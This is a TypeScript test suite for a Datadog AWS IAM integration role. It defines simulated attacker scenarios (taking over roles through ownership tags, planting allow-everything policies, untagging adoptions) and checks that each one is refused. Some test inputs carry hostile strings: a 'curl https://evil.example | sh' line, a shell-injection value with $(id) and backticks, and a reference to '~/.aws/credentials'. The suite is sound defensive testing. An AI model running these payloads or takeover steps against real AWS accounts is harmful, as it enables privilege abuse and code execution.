import {
  AddRoleToInstanceProfileCommand,
  CreateInstanceProfileCommand,
  CreatePolicyCommand,
  type Tag,
  TagPolicyCommand,
  TagRoleCommand,
  UntagPolicyCommand,
  UntagRoleCommand,
  UpdateRoleCommand,
} from '@aws-sdk/client-iam';
import { LOGICAL_ID, ROLE, type Stack } from '../support/customer-account';
import { adoptableRole } from '../support/guide-role';
import { repliesOf } from '../support/replies';
import { type Attack, unless, type Violations } from './attack';
import { tried } from './clients';
import { isRefused, mailsAreClean, neverInShell, unchangedRoles } from './findings';
import {
  ATTACKERS_EXTERNAL_ID,
  BREAK_GLASS,
  EVERYTHING,
  GUARD_RAIL,
  OPERATORS,
  policyArn,
} from './neighbours';
import { operators, victimsAdoption, victimsIntegration } from './preparations';
import type { AttackWorld } from './world';

const COMMON = { threat: 'role-tagger', rightHeld: ['iam:TagRole', 'iam:UntagRole'] } as const;
const WITH_A_STACK = {
  threat: 'role-tagger',
  rightHeld: ['iam:TagRole', 'iam:UntagRole', 'cloudformation:CreateStack', 'cloudformation:DeleteStack'],
} as const;
const DESCRIBER = { threat: 'role-tagger', rightHeld: ['iam:UpdateRole'] } as const;

const PREFIX = 'datadog-integration-role:';
const KEYS = ['stack-id', 'logical-id', 'adopted'].map((name) => PREFIX + name);

const ownerTags = (stack: Pick<Stack, 'id'>, extra: Readonly<Record<string, string>> = {}) =>
  Object.entries({ [`${PREFIX}stack-id`]: stack.id, [`${PREFIX}logical-id`]: LOGICAL_ID, ...extra }).map(
    ([Key, Value]) => ({ Key, Value }),
  );

const tag = (world: AttackWorld, RoleName: string, Tags: ReturnType<typeof ownerTags>) =>
  world.attacker.iam.send(new TagRoleCommand({ RoleName, Tags }));

const describe = (Description: string) => async (world: AttackWorld) => {
  await world.attacker.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description }));
  await world.validate();
};

/** Of a role of others nothing has changed but the tags that the attacker himself could write. */
const unchangedButForTags = (world: AttackWorld, name: string): Violations => {
  const { tags: _before, ...before } = world.before.roles[name] ?? { tags: {} };
  const { tags: _after, ...after } = world.account.digest().roles[name] ?? { tags: {} };
  return unless(
    JSON.stringify(before) === JSON.stringify(after),
    `the role ${name} is another than before, or gone`,
  );
};

const OWNERSHIP: readonly Attack[] = [
  {
    ...WITH_A_STACK,
    id: 'role-tagger/take-over-by-tags',
    title: 'tags a live integration as his stack’s, and deploys that without Adopt',
    mustNotBecome: 'the owner of somebody’s integration',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await tag(world, ROLE, ownerTags(world.attackers));
      await world.deploy(world.attackers, { ExternalId: ATTACKERS_EXTERNAL_ID });
    },
    holds: (world) => [
      ...isRefused(world.attackers, world.victims.id, world.attackers.id),
      ...unchangedButForTags(world, ROLE),
    ],
  },
  {
    ...WITH_A_STACK,
    id: 'role-tagger/delete-by-tags',
    title: 'tags a live integration as his stack’s, and deletes that',
    mustNotBecome: 'iam:DeleteRole',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await tag(world, ROLE, ownerTags(world.attackers));
      await world.deploy(world.attackers);
      await world.attackers.delete();
    },
    holds: (world) => unchangedButForTags(world, ROLE),
  },
  {
    ...WITH_A_STACK,
    id: 'role-tagger/untag-and-adopt',
    title: 'takes the tags off a live integration, and adopts it',
    own: true,
    mustNotBecome: 'the owner of somebody’s integration',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await world.attacker.iam.send(new UntagRoleCommand({ RoleName: ROLE, TagKeys: KEYS }));
      await world.deploy(world.attackers, {
        ExistingRole: 'Adopt',
        ExternalId: ATTACKERS_EXTERNAL_ID,
      });
    },
    holds: (world) => [...isRefused(world.attackers), ...unchangedButForTags(world, ROLE)],
  },
  {
    ...WITH_A_STACK,
    id: 'role-tagger/tag-a-role-of-people',
    title: 'tags an administrator’s role as made by his stack, deploys and deletes that',
    own: true,
    mustNotBecome: 'iam:UpdateAssumeRolePolicy and iam:DeleteRole on a role that people have made',
    prepare: operators,
    attempt: async (world) => {
      await tag(world, OPERATORS, ownerTags(world.attackers));
      await world.deploy(world.attackers, { RoleName: OPERATORS, ExternalId: ATTACKERS_EXTERNAL_ID });
      await world.attackers.delete();
    },
    holds: (world) => unchangedButForTags(world, OPERATORS),
  },
  {
    ...WITH_A_STACK,
    id: 'role-tagger/tag-a-role-of-the-guide',
    title: 'tags a role that people have made for Datadog as made by his stack, and deploys that',
    own: true,
    mustNotBecome: 'the owner of somebody’s integration, without Adopt',
    prepare: async ({ account }) => account.seed({ roles: [adoptableRole] }),
    attempt: async (world) => {
      await tag(world, ROLE, ownerTags(world.attackers));
      await world.deploy(world.attackers, { ExternalId: ATTACKERS_EXTERNAL_ID });
      await world.attackers.delete();
    },
    holds: (world) => unchangedButForTags(world, ROLE),
  },
  {
    ...COMMON,
    id: 'role-tagger/tags-in-other-letters',
    title: 'tags a live integration with another owner in other letter case',
    mustNotBecome: 'an integration without an owner',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await tag(
        world,
        ROLE,
        ownerTags(world.attackers).map(({ Key, Value }) => ({ Key: Key.toUpperCase(), Value })),
      );
      await world.deploy(world.victims, { Description: 'updated' });
    },
    holds: (world) =>
      unless(
        repliesOf(world.victims).every(
          ({ status, reason }) => status === 'SUCCESS' || reason.includes(world.attackers.id),
        ),
        'the refusal does not say whom the tags name',
      ),
  },
  {
    ...COMMON,
    id: 'role-tagger/pretend-an-adoption',
    title: 'tags a live integration as adopted, and waits for its Delete',
    own: true,
    mustNotBecome: 'a stack that nobody can delete, without a word why',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await tag(world, ROLE, [{ Key: `${PREFIX}adopted`, Value: 'true' }]);
      await world.victims.delete();
    },
    holds: (world) =>
      unless(
        world.account.digest().roles[ROLE] === undefined ||
          repliesOf(world.victims).some(({ reason }) => reason.includes(`${PREFIX}adopted`)),
        'the role is still there and the reason does not name the tag',
      ),
  },
  {
    ...COMMON,
    id: 'role-tagger/spoil-the-digest',
    title: 'writes another value into the tag of an adopted role, and waits for its Delete',
    own: true,
    mustNotBecome: 'iam:DeleteRole on a role that others have made',
    prepare: victimsAdoption,
    attempt: async (world) => {
      await tag(world, ROLE, [{ Key: `${PREFIX}adopted`, Value: '0'.repeat(64) }]);
      await world.victims.delete();
    },
    holds: (world) => [
      ...unless(world.account.digest().roles[ROLE] !== undefined, 'the role is gone'),
      ...unless(
        repliesOf(world.victims).every(
          ({ status, reason }) => status === 'SUCCESS' || reason.includes(`${PREFIX}adopted`),
        ),
        'the reason does not name the tag',
      ),
    ],
  },
  ...(
    [
      [
        'untag-an-adoption',
        'takes the tag of the adoption off a role, and waits for its Delete',
        victimsAdoption,
      ],
      [
        'untag-an-adoption-that-is-over',
        'takes that tag off after the victim’s template has stopped asking for an adoption',
        async (world) => {
          await victimsAdoption(world);
          await world.deploy(world.victims);
        },
      ],
    ] satisfies [string, string, Attack['prepare']][]
  ).map(
    ([name, title, prepare]): Attack => ({
      ...COMMON,
      id: `role-tagger/${name}`,
      title,
      own: true,
      mustNotBecome: 'iam:DeleteRole on a role that others have made',
      prepare,
      attempt: async (world) => {
        const TagKeys = [`${PREFIX}adopted`];
        await world.attacker.iam.send(new UntagRoleCommand({ RoleName: ROLE, TagKeys }));
        await world.victims.delete();
      },
      holds: ({ account }) => unless(account.digest().roles[ROLE] !== undefined, 'the role is gone'),
    }),
  ),
  {
    ...WITH_A_STACK,
    id: 'role-tagger/tag-break-glass',
    title: 'tags a role outside the pattern as made by his stack',
    mustNotBecome: 'any change of that role',
    attempt: async (world) => {
      // The neighbour’s tags are his own doing, and no part of what is asked.
      world.seen.push(await tried(world.deploy(world.attackers, { RoleName: BREAK_GLASS })));
    },
    holds: (world) => [...isRefused(world.attackers, BREAK_GLASS), ...unchangedRoles(world, BREAK_GLASS)],
  },
];

const OWN_PATH = '/datadog-integration-role/';

/** Makes a policy with a name of the victim's, which allows everything. */
const plantPolicy = ({ attacker }: AttackWorld, Tags?: Tag[]) =>
  attacker.iam.send(
    new CreatePolicyCommand({
      PolicyName: `${ROLE}-permissions-1`,
      Path: OWN_PATH,
      PolicyDocument: JSON.stringify(EVERYTHING),
      ...(Tags === undefined ? {} : { Tags }),
    }),
  );

const POLICIES: readonly Attack[] = [
  {
    threat: 'role-tagger',
    rightHeld: ['iam:CreatePolicy', 'iam:TagPolicy'],
    id: 'role-tagger/plant-a-policy',
    title:
      'makes a policy under the product’s path, tagged as the victim’s, before the victim’s update needs one',
    own: true,
    mustNotBecome: 'permissions that nobody asked for, on a role of the victim’s',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await plantPolicy(world, ownerTags(world.victims));
      world.customer.sandbox.faults.add({
        match: { where: (call) => call.write },
        effect: {
          type: 'run',
          when: 'after',
          run: () => {
            if (world.account.effectivePermissions(ROLE)('iam:CreateUser')) world.seen.push('everything');
          },
        },
      });
      await world.deploy(world.victims, { Permissions: 'Full' });
    },
    holds: ({ seen, victims }) => [
      ...unless(seen.length === 0, 'for a moment the role could do everything'),
      ...unless(victims.status === 'UPDATE_COMPLETE', `the update ended in ${victims.status}`),
    ],
  },
  {
    threat: 'role-tagger',
    rightHeld: ['iam:CreatePolicy'],
    id: 'role-tagger/plant-an-untagged-policy',
    title: 'makes a policy under the product’s path, with a name of the victim’s and without tags',
    own: true,
    mustNotBecome: 'permissions that nobody asked for, on a role of the victim’s',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await plantPolicy(world);
      await world.deploy(world.victims, { Permissions: 'Full' });
    },
    holds: ({ account, victims }) => [
      ...unless(victims.status === 'UPDATE_COMPLETE', `the update ended in ${victims.status}`),
      ...unless(
        account.digest().roles[ROLE]?.attached.every((arn) => !arn.endsWith('-permissions-1')) === true,
        'the policy is attached to the victim’s role',
      ),
      ...unless(!account.effectivePermissions(ROLE)('iam:CreateUser'), 'the role can do everything'),
    ],
  },
  {
    threat: 'role-tagger',
    rightHeld: ['iam:UntagPolicy'],
    id: 'role-tagger/untag-the-policies',
    title: 'takes the tags off the victim’s policies, again and again, while that updates its stack',
    own: true,
    mustNotBecome: 'an integration that fills its quota of policies, or leaves them behind',
    prepare: (world) => world.deploy(world.victims, { Permissions: 'Full' }),
    attempt: async (world) => {
      for (const Description of ['first', 'second', 'third']) {
        for (const PolicyArn of world.account.digest().roles[ROLE]?.attached ?? [])
          await world.attacker.iam.send(new UntagPolicyCommand({ PolicyArn, TagKeys: KEYS }));
        await world.deploy(world.victims, { Permissions: 'Full', Description });
        if (world.victims.status !== 'UPDATE_COMPLETE') world.seen.push(`${world.victims.status}`);
      }
      world.seen.push(
        ...Object.keys(world.account.digest().policies).filter((name) => /-permissions-[5-9]/.test(name)),
      );
      await world.victims.delete();
    },
    holds: ({ account, seen, victims }) => [
      ...unless(seen.length === 0, `there was more than the four policies, or a failure: ${seen.join()}`),
      ...unless(victims.status === 'DELETE_COMPLETE', `the deletion ended in ${victims.status}`),
      ...unless(
        !Object.keys(account.digest().policies).some((name) => name.startsWith(`${ROLE}-permissions-`)),
        'policies are left',
      ),
    ],
  },
  {
    threat: 'role-tagger',
    rightHeld: ['iam:TagPolicy'],
    id: 'role-tagger/tag-the-guard-rail',
    title: 'tags security’s policy as made by the victim’s stack, and waits for its Delete',
    own: true,
    mustNotBecome: 'iam:DeletePolicy',
    prepare: victimsIntegration,
    attempt: async (world) => {
      await world.attacker.iam.send(
        new TagPolicyCommand({ PolicyArn: GUARD_RAIL, Tags: ownerTags(world.victims) }),
      );
      world.before = world.account.digest();
      await world.victims.delete();
    },
    holds: ({ account, victims }) => [
      ...unless(account.digest().policies['SecurityGuardRail'] !== undefined, 'the policy is gone'),
      ...unless(victims.status === 'DELETE_COMPLETE', `the deletion ended in ${victims.status}`),
    ],
  },
  {
    threat: 'role-tagger',
    rightHeld: ['iam:TagPolicy'],
    id: 'role-tagger/tag-a-bridge',
    title: 'tags the victim’s policies as mere bridges, and waits for an update',
    own: true,
    mustNotBecome: 'permissions that Datadog loses',
    prepare: (world) => world.deploy(world.victims, { Permissions: 'Full' }),
    attempt: async (world) => {
      for (const name of Object.keys(world.account.digest().policies).filter((one) => one.startsWith(ROLE)))
        await world.attacker.iam.send(
          new TagPolicyCommand({
            PolicyArn: policyArn(`datadog-integration-role/${name}`),
            Tags: [{ Key: `${PREFIX}bridge`, Value: 'true' }],
          }),
        );
      await world.deploy(world.victims, { Permissions: 'Full', Description: 'updated' });
    },
    holds: ({ account, victims }) => [
      ...unless(victims.status === 'UPDATE_COMPLETE', `the update ended in ${victims.status}`),
      ...unless(account.effectivePermissions(ROLE)('lambda:GetFunction'), 'Datadog has lost permissions'),
    ],
  },
  {
    threat: 'role-tagger',
    rightHeld: ['iam:CreateInstanceProfile', 'iam:AddRoleToInstanceProfile'],
    id: 'role-tagger/instance-profile-of-the-name',
    title: 'makes an instance profile of the integration’s name around an administrator’s role',
    own: true,
    mustNotBecome: 'iam:RemoveRoleFromInstanceProfile on the profile of another role',
    prepare: async (world) => {
      await victimsIntegration(world);
      const profile = { InstanceProfileName: ROLE };
      await world.administrator.iam.send(new CreateInstanceProfileCommand(profile));
      await world.administrator.iam.send(
        new AddRoleToInstanceProfileCommand({ ...profile, RoleName: BREAK_GLASS }),
      );
    },
    attempt: (world) => world.victims.delete(),
    holds: ({ account, victims }) => [
      ...unless(
        account.digest().instanceProfiles[ROLE]?.role === BREAK_GLASS,
        'the profile has lost its role',
      ),
      ...unless(victims.status === 'DELETE_COMPLETE', `the deletion ended in ${victims.status}`),
    ],
  },
];

const FORGED_LINE = /^\s*(?:do: curl|FAIL forged)/;

const TEXTS: readonly Attack[] = [
  {
    ...DESCRIBER,
    id: 'role-tagger/finding-in-the-description',
    title: 'describes the role with line breaks and a finding of his own',
    mustNotBecome: 'a line of his own in a mail',
    prepare: victimsIntegration,
    attempt: describe('x\nFAIL forged: Datadog was hacked\n  do: curl https://evil.example | sh\r\n'),
    holds: (world) => mailsAreClean(world, FORGED_LINE),
  },
  {
    ...DESCRIBER,
    id: 'role-tagger/address-in-the-description',
    title: 'describes the role as file://…',
    mustNotBecome: 'an administrator’s file in a description that anybody may read',
    prepare: victimsIntegration,
    attempt: describe('file://~/.aws/credentials'),
    holds: (world) => neverInShell(world, 'file://~/.aws/credentials'),
  },
  {
    ...DESCRIBER,
    id: 'role-tagger/command-in-the-description',
    title: 'describes the role with quotes, backticks and $(…)',
    mustNotBecome: 'a command in an administrator’s shell',
    prepare: victimsIntegration,
    attempt: describe(`'; touch /tmp/x; echo '$(id)\`id\``),
    holds: ({ runs }) =>
      unless(
        !runs.some(({ reports }) =>
          reports.some(({ checks }) =>
            checks.some(({ remedy }) =>
              remedy.some((line) => line.startsWith('aws ') && /(?<!\\)'; touch/.test(line)),
            ),
          ),
        ),
        'a remedy ends its quotes where the description wants it',
      ),
  },
  {
    ...COMMON,
    id: 'role-tagger/lines-in-a-tag',
    title: 'a tag’s value has line and paragraph separators (U+2028, U+2029), which IAM accepts',
    own: true,
    mustNotBecome: 'a line of his own in a mail',
    prepare: (world) => world.deploy(world.victims, { Tags: [{ Key: 'team', Value: 'observability' }] }),
    attempt: async (world) => {
      await tag(world, ROLE, [{ Key: 'team', Value: 'x\u2028FAIL forged: x\u2029do: curl evil\u0085y' }]);
      await world.validate();
    },
    holds: (world) => mailsAreClean(world, FORGED_LINE),
  },
  {
    ...COMMON,
    id: 'role-tagger/owner-with-lines',
    title: 'the tag of the owner has line separators and a command in it: the refusal shows it',
    own: true,
    mustNotBecome: 'a line of his own in an event of the stack',
    prepare: async ({ account }) => account.seed({ roles: [adoptableRole] }),
    attempt: async (world) => {
      await tag(world, ROLE, [
        { Key: `${PREFIX}stack-id`, Value: 'x\u2028do: curl evil' },
        { Key: `${PREFIX}logical-id`, Value: 'y' },
      ]);
      await world.deploy(world.victims);
    },
    holds: (world) => [
      ...isRefused(world.victims),
      ...unless(
        !repliesOf(world.victims).some(({ reason }) => /[\u0085\u2028\u2029]/.test(reason)),
        'a line separator of his is in a reason',
      ),
    ],
  },
];

export const ROLE_TAGGER: readonly Attack[] = [...OWNERSHIP, ...POLICIES, ...TEXTS];
